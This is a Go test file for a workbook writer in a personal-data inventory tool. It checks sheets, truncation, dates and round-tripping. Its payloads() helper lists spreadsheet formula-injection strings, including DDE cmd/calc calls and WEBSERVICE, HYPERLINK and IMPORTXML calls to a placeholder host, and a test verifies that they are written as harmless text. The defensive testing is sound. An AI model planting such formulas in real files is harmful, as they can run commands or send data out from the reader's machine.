package excel

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"hash/crc32"
	"io"
	"io/fs"
	"iter"
	"math"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"

	"recense/report"
	"recense/report/inventory"
	"recense/report/register"
	"recense/report/reporttest"
	"recense/report/taxonomy"
	"recense/scanner"
	"recense/sources"
)

var update = flag.Bool("update", false, "write the golden files anew")

func input(t testing.TB, r scanner.Results, audience string) report.Input {
	t.Helper()
	inv, err := reporttest.New(r, audience)
	if err != nil {
		t.Fatal(err)
	}
	return report.Input{Inventory: inv}
}

// written writes the workbook into a new folder and returns its path.
func written(t testing.TB, in report.Input) string {
	t.Helper()
	dir := t.TempDir()
	in.TmpDir = t.TempDir()
	names, err := Writer.Write(context.Background(), dir, in)
	if err != nil {
		t.Fatal(err)
	}
	if left, _ := os.ReadDir(in.TmpDir); len(left) > 0 {
		t.Errorf("%d spool files left", len(left))
	}
	if len(names) != 1 {
		t.Fatalf("files %v", names)
	}
	return filepath.Join(dir, names[0])
}

func open(t testing.TB, path string) *excelize.File {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// dump prints the cells of a workbook as its readers see them.
func dump(t testing.TB, path string) string {
	t.Helper()
	f := open(t, path)
	var b strings.Builder
	for _, name := range f.GetSheetList() {
		fmt.Fprintf(&b, "## %s\n", name)
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			b.WriteString(strings.Join(r, " | ") + "\n")
		}
	}
	return b.String()
}

func TestGolden(t *testing.T) {
	for _, c := range []struct{ name, audience, lang string }{
		{"general", "", "fr"}, {"medical", "medical", ""}, {"english", "", "en"},
	} {
		in := input(t, reporttest.Example(), c.audience)
		in.Lang = c.lang
		path := written(t, in)
		if keep := os.Getenv("RECENSE_TEST_KEEP"); keep != "" { // to look at it in an office program
			b, _ := os.ReadFile(path)
			if err := os.WriteFile(filepath.Join(keep, c.name+".xlsx"), b, 0o600); err != nil {
				t.Fatal(err)
			}
		}
		got := filepath.Base(path) + "\n" + dump(t, path)
		golden := filepath.Join("testdata", c.name+".golden")
		if *update {
			if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatal(err)
		}
		if got != string(want) {
			t.Errorf("%s differs from its golden file (go test -update writes it anew):\n%s", c.name, got)
		}
	}
}

// parts reads the members of the container.
func parts(t testing.TB, path string) map[string]string {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	m := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		m[f.Name] = string(b)
	}
	return m
}

// Every sheet has a frozen header, a filter, the mark of its readers and no
// formula; properties hold the product name only.
func TestSheets(t *testing.T) {
	path := written(t, input(t, reporttest.Example(), ""))
	sheets := 0
	for name, text := range parts(t, path) {
		switch {
		case strings.HasPrefix(name, "xl/worksheets/"):
			sheets++
			for _, want := range []string{`state="frozen"`, `<autoFilter ref="$A$1:`, "Diffusion restreinte DPO/RSSI", `orientation="landscape"`, `<pageSetUpPr fitToPage="true"`} {
				if !strings.Contains(text, want) {
					t.Errorf("%s has no %s", name, want)
				}
			}
			if strings.Contains(text, "<f>") || strings.Contains(text, "<f ") {
				t.Errorf("%s holds a formula", name)
			}
		case strings.HasPrefix(name, "docProps/"):
			if s := regexp.MustCompile(`>([^<>]+)<`).FindAllStringSubmatch(text, -1); len(s) > 0 {
				for _, m := range s {
					if v := strings.TrimSpace(m[1]); v != "" && v != product && !strings.HasPrefix(v, "2006-09-16") && v != "0" && v != "false" {
						t.Errorf("%s says %q", name, v)
					}
				}
			}
		}
	}
	if sheets != 9 {
		t.Errorf("%d sheets", sheets)
	}
	st, err := os.Stat(path)
	if err != nil || st.Mode() != 0o600 {
		t.Errorf("mode %v, %v", st.Mode(), err)
	}
}

// payloads are names that a spreadsheet program would run, or that would break the
// container.
func payloads() []string {
	out := []string{"=1+1", "+33", "-1", "@SUM(A1)", "\tx", "\rx", "'=1", `</t></is></c><c><f>1+1</f></c>`, `<![CDATA[x]]>`, `&quot;><script>`, "_x000D_", `DDE("cmd";"/C calc")`}
	for _, head := range []string{"=", "+", "-", "@", "\t=", " =", "\ufeff=", "\u200b="} {
		for _, body := range []string{`cmd|' /C calc'!A0`, `HYPERLINK("http://evil.invalid","x")`, `WEBSERVICE("http://evil.invalid")`, `IMPORTXML("http://evil.invalid","//a")`} {
			out = append(out, head+body)
		}
	}
	return out
}

// In names of places, members, owners, groups, sources and columns they are texts, and
// come back as they are shown.
func TestFormulaLikeNamesAreText(t *testing.T) {
	r := reporttest.Many(0)
	names := payloads()
	if len(names) < 40 {
		t.Fatalf("only %d payloads", len(names))
	}
	for i, name := range names {
		l := scanner.Location{Place: scanner.Place{URI: name, Container: name, Owner: name, Source: name, Groups: []string{name}}}
		l.ID = reporttest.ID(byte(i))
		l.Elements = []scanner.Element{{Index: 0, Name: name, Field: name, Part: name, Column: 1, Table: true, Values: 60}}
		l.Cells = []scanner.Cell{{Element: 0, Kind: "phone_fr", Matches: 60, Whole: 60, Best: 80, Distinct: reporttest.Distinct(60)}}
		r.Locations = append(r.Locations, l)
	}
	path := written(t, input(t, r, ""))
	for name, text := range parts(t, path) {
		if strings.Contains(text, "<f>") || strings.Contains(text, "<f ") || strings.Contains(text, "<hyperlink") || strings.Contains(name, "externalLink") {
			t.Errorf("%s holds a formula or a link", name)
		}
	}
	f := open(t, path)
	for row, name := range names {
		for _, at := range [][2]string{{"Emplacements", "A"}, {"Emplacements", "B"}, {"Emplacements", "G"}, {"Inventaire", "I"}, {"Champs", "C"}} {
			cell := fmt.Sprint(at[1], row+2)
			kind, err := f.GetCellType(at[0], cell)
			value, _ := f.GetCellValue(at[0], cell)
			if err != nil || kind != excelize.CellTypeInlineString || !strings.Contains(value, visible(name)) {
				t.Errorf("%s!%s of %q is %q, of type %v, %v", at[0], cell, name, value, kind, err)
			}
		}
	}
}

// A sheet that is full goes on in another one, right behind it, with the same
// header, filter and columns.
func TestSplit(t *testing.T) {
	in := input(t, reporttest.Many(25), "")
	in.SheetRows = 10
	f := open(t, written(t, in))
	want := []string{"Lisez-moi", "Lisez-moi (2)", "Synthèse", "Synthèse (2)", "Synthèse (3)", "Inventaire", "Inventaire (2)", "Champs", "Champs (2)", "Emplacements", "Emplacements (2)", "Emplacements (3)", "Non analysé", "Couverture", "Couverture (2)"}
	if got := f.GetSheetList(); strings.Join(got[:len(want)], ",") != strings.Join(want, ",") {
		t.Errorf("sheets %v", got)
	}
	rows := 0
	for i, name := range []string{"Emplacements", "Emplacements (2)", "Emplacements (3)"} {
		r, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		if r[0][1] != "Emplacement" {
			t.Errorf("%s has no header: %v", name, r[0])
		}
		if n := len(r) - 1; i < 2 && n != 10 {
			t.Errorf("%s has %d rows", name, n)
		}
		rows += len(r) - 1
	}
	if rows != 25 {
		t.Errorf("%d rows in all", rows)
	}
	for _, n := range f.GetDefinedName() {
		if n.Name == "_xlnm._FilterDatabase" && !strings.HasPrefix(n.RefersTo, "'"+n.Scope+"'!") {
			t.Errorf("the filter of %s is over %s", n.Scope, n.RefersTo)
		}
	}
}

// The default is what a worksheet holds.
func TestRowLimit(t *testing.T) {
	for given, want := range map[int]int{0: 1048575, -1: 1048575, 2000000: 1048575, 7: 7} {
		in := input(t, reporttest.Example(), "")
		in.SheetRows = given
		b, err := newBook(in)
		if err != nil {
			t.Fatal(err)
		}
		b.file.Close()
		if b.rows != want {
			t.Errorf("%d gives %d", given, b.rows)
		}
	}
}

func TestFit(t *testing.T) {
	for name, c := range map[string]struct {
		text, lang, end string
		whole           bool
	}{
		"short":           {"abc", "fr", "", true},
		"as long as may":  {strings.Repeat("x", maxChars), "fr", "", true},
		"bytes, not text": {strings.Repeat("é", maxChars), "fr", "", true},
		"one too many":    {strings.Repeat("x", maxChars+1), "fr", "… (suite : 65 caractères)", false},
		"English":         {strings.Repeat("é", 40000), "en", "… (continued: 7297 characters)", false},
		"surrogate pairs": {strings.Repeat("🂡", 20000), "fr", "… (suite : 7298 caractères)", false},
	} {
		got := fit(c.text, c.lang)
		if units := len(utf16.Encode([]rune(got))); units > maxChars {
			t.Errorf("%s: %d characters", name, units)
		}
		if (got == c.text) != c.whole || !strings.HasSuffix(got, c.end) {
			t.Errorf("%s: ends with %q", name, got[max(0, len(got)-60):])
		}
	}
	r := reporttest.Many(1)
	r.Locations[0].URI = "file:///" + strings.Repeat("long/", 10000)
	rows, err := open(t, written(t, input(t, r, ""))).GetRows("Emplacements")
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1][1]; !strings.HasSuffix(got, "caractères)") || len(got) < 32000 {
		t.Errorf("a long cell of %d characters ends with %q", len(got), got[max(0, len(got)-40):])
	}
}

func TestVisible(t *testing.T) {
	for in, want := range map[string]string{
		"plain":        "plain",
		"é€🂡":          "é€🂡",
		"a\x1bb":       `a\x1Bb`,
		"a\nb\tc":      `a\x0Ab\x09c`,
		"caf\xe9":      `caf\xE9`,
		"x\x7f":        `x\x7F`,
		"\u202egnp.e":  `\u202Egnp.e`,
		"\u0085":       `\u0085`,
		"\ufffd kept":  "\ufffd kept",
		"_x0041_":      "_x0041_",
		"nul\x00after": `nul\x00after`,
	} {
		if got := visible(in); got != want {
			t.Errorf("%q reads %q, want %q", in, got, want)
		}
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{"", "=1", "a\x00b", "\xff\xfe", "_x001B_", "\u2028", strings.Repeat("🂡", 17000), " lead", "<&>\"'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		v := visible(s)
		if visible(v) != v {
			t.Fatalf("%q is not stable", v)
		}
		if c := fit(v, "fr"); len(utf16.Encode([]rune(c))) > maxChars {
			t.Fatalf("%d characters", len(c))
		}
	})
}

// What is written is what is read, whatever the characters.
func TestRoundTrip(t *testing.T) {
	r := reporttest.Many(0)
	names := []string{"_x001B_", "<&>\"'", " led by a space", "]]>", "é€🂡", "a;b,c"}
	for i, n := range names {
		l := scanner.Location{Place: scanner.Place{URI: n}}
		l.ID = reporttest.ID(byte(i))
		r.Locations = append(r.Locations, l)
	}
	f := open(t, written(t, input(t, r, "")))
	for i, n := range names {
		if got, err := f.GetCellValue("Emplacements", fmt.Sprint("B", i+2)); got != n {
			t.Errorf("%q reads %q, %v", n, got, err)
		}
	}
}

func TestDates(t *testing.T) {
	paris, err := time.LoadLocation("Europe/Paris")
	if err != nil {
		t.Fatal(err)
	}
	for at, want := range map[time.Time]float64{
		time.Date(1900, 3, 1, 0, 0, 0, 0, time.UTC):            61,
		time.Date(2000, 1, 1, 0, 0, 0, 0, time.UTC):            36526,
		time.Date(2025, 1, 1, 12, 0, 0, 0, time.UTC):           45658.5,
		time.Date(2025, 7, 1, 22, 0, 0, 0, time.UTC):           45839 + 22.0/24,
		time.Date(2025, 7, 1, 22, 0, 0, 0, paris):              45839 + 22.0/24,
		time.Date(2025, 7, 1, 22, 0, 0, 0, time.UTC).In(paris): 45840,
	} {
		if got := serial(at); math.Abs(got-want) > 1e-9 {
			t.Errorf("%v is %v, want %v", at, got, want)
		}
	}
	r := reporttest.Many(2)
	r.Locations[0].Modified = time.Date(2026, 7, 31, 22, 30, 0, 0, time.UTC) // already August in Paris
	r.Locations[1].Modified = time.Date(1601, 1, 1, 0, 0, 0, 0, time.UTC)    // a file system's zero
	rows, err := open(t, written(t, input(t, r, ""))).GetRows("Emplacements")
	if err != nil {
		t.Fatal(err)
	}
	if rows[1][5] != "01/08/2026" || rows[2][5] != "01/01/1601" {
		t.Errorf("modified on %q and %q", rows[1][5], rows[2][5])
	}
}

// Check sums of two texts make that of both in a row.
func TestJoinCRC(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	for range 500 {
		text := make([]byte, r.IntN(5000))
		for i := range text {
			text[i] = byte(r.Uint32())
		}
		n := r.IntN(len(text) + 1)
		if got := joinCRC(crc32.ChecksumIEEE(text[:n]), crc32.ChecksumIEEE(text[n:]), int64(len(text)-n)); got != crc32.ChecksumIEEE(text) {
			t.Fatalf("%d and %d bytes: %08x", n, len(text)-n, got)
		}
	}
}

// Rows that were spooled are in their worksheet as they were written, with those after them.
func TestSpooledRows(t *testing.T) {
	var out bytes.Buffer
	a, remove, err := newArchive(&out, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer remove()
	data := &rows{dir: t.TempDir()}
	defer data.remove()
	var want strings.Builder
	for i := 0; want.Len() < 3*spoolAt+spoolAt/2; i++ {
		row := fmt.Sprintf("<row r=%q>%d</row>", strconv.Itoa(i), i*i)
		want.WriteString(row)
		data.buf = append(data.buf, row...)
		if err := data.keep(); err != nil {
			t.Fatal(err)
		}
	}
	a.rows["b.xml"] = data
	for _, name := range []string{"a.xml", "b.xml", "c.xml"} {
		w, err := a.Create(name)
		if err == nil {
			_, err = io.WriteString(w, "<sheetData></sheetData>"+name)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "x.zip")
	if err := os.WriteFile(path, out.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	for name, got := range parts(t, path) {
		inside := ""
		if name == "b.xml" {
			inside = want.String()
		}
		if got != "<sheetData>"+inside+"</sheetData>"+name {
			t.Errorf("%s: %d bytes", name, len(got))
		}
	}
}

// Days are written as the shortest number that rounds to five decimals.
func TestDays(t *testing.T) {
	s := &sheet{letters: []string{"A"}, styles: []int{1}, open: true, data: &rows{}, cols: make([]column, 1)}
	r := rand.New(rand.NewPCG(1, 2))
	for i := range 20000 {
		days := 61 + r.Float64()*2.9e6
		if i%3 == 0 {
			days = math.Round(days*100) / 100
		}
		s.data.buf, s.at = s.data.buf[:0], 0
		s.days(days)
		want := "<v>" + strconv.FormatFloat(math.Round(days*1e5)/1e5, 'f', -1, 64) + "</v>"
		if !strings.Contains(string(s.data.buf), want) {
			t.Fatalf("%v: %s, not %s", days, s.data.buf, want)
		}
	}
}

func TestSameBytes(t *testing.T) {
	a, err := os.ReadFile(written(t, input(t, reporttest.Example(), "")))
	if err != nil {
		t.Fatal(err)
	}
	for range 3 { // excelize keeps its parts in maps
		b, err := os.ReadFile(written(t, input(t, reporttest.Example(), "")))
		if err != nil || !bytes.Equal(a, b) {
			t.Fatalf("two runs give different bytes (%v)", err)
		}
	}
}

type failing struct{ *reporttest.Results }

func (f failing) Walk(ctx context.Context, fn func(*scanner.Location, iter.Seq2[scanner.Finding, error]) error) error {
	if err := f.Results.Walk(ctx, fn); err != nil {
		return err
	}
	return fs.ErrClosed
}

func TestFailureLeavesNothing(t *testing.T) {
	for name, tmp := range map[string]string{"results that end early": "", "no folder to spool in": "missing"} {
		in := input(t, reporttest.Example(), "")
		if tmp == "" {
			in = input(t, failing{reporttest.Example()}, "")
		}
		dir := t.TempDir()
		in.TmpDir = filepath.Join(dir, tmp)
		_, err := Writer.Write(context.Background(), dir, in)
		if err == nil || tmp == "" && !errors.Is(err, fs.ErrClosed) {
			t.Errorf("%s: %v", name, err)
		}
		if err != nil && strings.Contains(err.Error(), dir) {
			t.Errorf("%s: the error tells a path: %v", name, err)
		}
		if left, _ := os.ReadDir(dir); len(left) > 0 {
			t.Errorf("%s: %d files left", name, len(left))
		}
	}
}

func BenchmarkWrite100k(b *testing.B) {
	in := input(b, reporttest.Many(100_000), "")
	for b.Loop() {
		start := time.Now()
		if _, err := Writer.Write(context.Background(), b.TempDir(), in); err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(100_000)/time.Since(start).Seconds(), "locations/s")
	}
}

// The sheets of a workbook with a register and a run before are those of
// domain/register.md E, in that order.
func TestSheetOrder(t *testing.T) {
	in := compared(t)
	in.Before = map[string]int64{"priority:1": 3, "locations": 7}
	in.Changes = inventory.NewDiff(in.Inventory.Taxonomy(), nil, false)
	in.Changes.Changes = []inventory.Change{
		{Kind: inventory.PlaceMoved, URI: "file:///a", Before: "file:///a", After: "file:///b"},
		{Kind: inventory.AccessWider, URI: "file:///c", Before: "group", After: "world"},
		{Kind: inventory.CategoryNew, URI: "file:///d", Category: "nir", Version: true},
	}
	id := ""
	err := in.Inventory.Walk(context.Background(), func(l *inventory.Location) error {
		if id == "" {
			id = l.ID.String()
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	in.Checks = map[string][]inventory.Check{id: {
		{Detector: "nir", Version: 1, Element: "nir", Real: 19, False: 1, At: reporttest.Started, Account: "dpo"},
		{Detector: "cim10", Version: 1, Element: "diag", Real: 1, At: reporttest.Started, Account: "dpo"},
	}}
	f := open(t, written(t, in))
	want := "Lisez-moi,Synthèse,Écarts,Inventaire,Champs,Emplacements,Registre,NIR,Santé,Conservation,Accès trop larges,Évolutions,Non analysé,Couverture,Contrôles,Décisions,Légende"
	if got := strings.Join(f.GetSheetList(), ","); got != want {
		t.Errorf("sheets\n%s\nwant\n%s", got, want)
	}
	text := func(sheet string) string {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		var b strings.Builder
		for _, r := range rows {
			b.WriteString(strings.Join(r, " | ") + "\n")
		}
		return b.String()
	}
	for sheet, wants := range map[string][]string{
		"Synthèse":   {"Priorité 1 | 0 | -3", "Emplacements découverts | 427 | +420"},
		"Évolutions": {"Emplacement déplacé | file:///a |  |  | file:///b", "Accès élargi | file:///c |  | Groupes désignés | Tout le monde", "Catégorie apparue (les détecteurs ont changé, pas l'emplacement) | file:///d | NIR"},
		"Contrôles":  {"| Numéro de sécurité sociale | nir | 1 | 19 | 1 | 0 | 95%", "| détail réservé |  | 1 | 1 | 0 | 0 | 100%"},
		"Légende":    {"taux de confirmation 95,0 %", "Constat | Accès trop large | Données à protection renforcée lisibles par …."},
		"Lisez-moi":  {"Décisions | À remplir"},
	} {
		for _, want := range wants {
			if got := text(sheet); !strings.Contains(got, want) {
				t.Errorf("%s lacks %q:\n%s", sheet, want, got)
			}
		}
	}
}

// compared is the example with a register of one processing.
func compared(t *testing.T) report.Input {
	t.Helper()
	tax, err := taxonomy.Load()
	if err != nil {
		t.Fatal(err)
	}
	reg, err := register.Read("r.yaml", []byte("schema: recense/register\nversion: 1\npolicy: mutuelle\nsources: [{id: partage, kind: file_share, country: FR}]\nprocessings:\n  - {ref: T-01, policy_ref: MUT-CONTRAT, locations: [{source: partage, path: \"/**\"}]}\n"), tax, "", nil)
	if err != nil {
		t.Fatal(err)
	}
	r := register.NewReconciler(tax, reg, reporttest.Started)
	e := reporttest.Detectors()
	inv, err := inventory.New(reporttest.Example(), e, tax, inventory.Options{Assess: r.Assess, Register: r.Table(func(string) (id scanner.ID) { return id })})
	if err != nil {
		t.Fatal(err)
	}
	return report.Input{Inventory: inv}
}

// Beyond a number of locations the workbook has a row per folder; nothing is lost in the
// sums, and what is cut stays cut.
func TestFolders(t *testing.T) {
	r := reporttest.Many(0)
	place := func(path string, n int64, status sources.Status) {
		l := scanner.Location{Place: scanner.Place{URI: "file:///srv/partage/" + path, Source: "partage", Size: 100, Access: "group", Status: status}}
		l.ID = reporttest.ID(byte(len(r.Locations)))
		l.Elements = []scanner.Element{{Index: 0, Name: "nir", Field: "nir", Column: 1, Table: true, Values: n}}
		l.Cells = []scanner.Cell{{Element: 0, Kind: "nir", Matches: n, Whole: n, Best: 90, Distinct: reporttest.Distinct(int(n))}}
		if status != sources.Scanned {
			l.Elements, l.Cells = nil, nil
		}
		r.Locations = append(r.Locations, l)
	}
	place("a/1.csv", 10, sources.Scanned)
	place("a/b/1.csv", 20, sources.Scanned)
	place("a/b/2.csv", 30, sources.Scanned)
	place("a/b/3.csv", 0, sources.Encrypted)
	place("a/b/4.csv", 0, sources.Encrypted)
	place("a/z.csv", 40, sources.Scanned)
	place("c/1.csv", 50, sources.Scanned)
	r.R.Targets = []scanner.Target{{Source: "partage", URI: "file:///srv/partage"}}
	for i := range r.Locations {
		r.R.Coverage.Add(&r.Locations[i].Place)
	}
	in := input(t, r, "")
	in.MaxListed = 3
	f := open(t, written(t, in))
	rows := func(sheet string, columns ...int) string {
		all, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, row := range all[1:] {
			var cells []string
			for _, c := range columns {
				if c < len(row) {
					cells = append(cells, row[c])
				}
			}
			out = append(out, strings.Join(cells, " "))
		}
		return strings.Join(out, "\n")
	}
	if got, want := rows("Inventaire", 1, 5, 7), "file:///srv/partage/a/b/… 50 30\nfile:///srv/partage/a/… 50 40\nfile:///srv/partage/c/… 50 50"; got != want {
		t.Errorf("inventory\n%s\nwant\n%s", got, want)
	}
	if got, want := rows("Non analysé", 0, 1), "file:///srv/partage/a/b/… Chiffré"; got != want {
		t.Errorf("not read %q, want %q", got, want)
	}
	if !strings.Contains(rows("Lisez-moi", 1), "une ligne par dossier") {
		t.Error("nothing says so")
	}
	if i, _ := f.GetSheetIndex("Champs"); i >= 0 {
		t.Error("a sheet of fields of folders")
	}
}
